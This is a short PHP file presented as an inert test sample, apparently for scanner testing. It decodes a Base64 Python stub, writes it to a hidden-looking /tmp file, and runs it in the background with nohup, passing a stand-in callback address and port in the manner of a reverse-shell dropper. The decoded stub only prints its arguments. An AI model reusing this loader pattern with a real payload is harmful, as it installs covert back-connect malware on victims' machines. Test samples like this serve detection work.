<?php
// inert test sample: carries a helper program as Base64 (a shebang script), writes it out
// decoded under /tmp and starts it through the interpreter in the background
$helper = 'IyEvdXNyL2Jpbi9lbnYgcHl0aG9uMwojIGluZXJ0IHRlc3QgcGF5bG9hZDogc3Rh'
    . 'bmRzIGluIGZvciBhIGJhY2stY29ubmVjdCBoZWxwZXIKaW1wb3J0IHN5cwpwcmlu'
    . 'dCgnaW5lcnQgdGVzdCBwYXlsb2FkJywgc3lzLmFyZ3ZbMTpdKQo=';

$target = sys_get_temp_dir() . '/.cache_' . substr(md5(__FILE__), 0, 6) . '.py';
file_put_contents($target, base64_decode($helper));
@chmod($target, 0700);
$started = @shell_exec('nohup python3 ' . $target . ' 192.0.2.10 8443 > /dev/null 2>&1 &');
echo $started === null ? 'queued' : 'started';
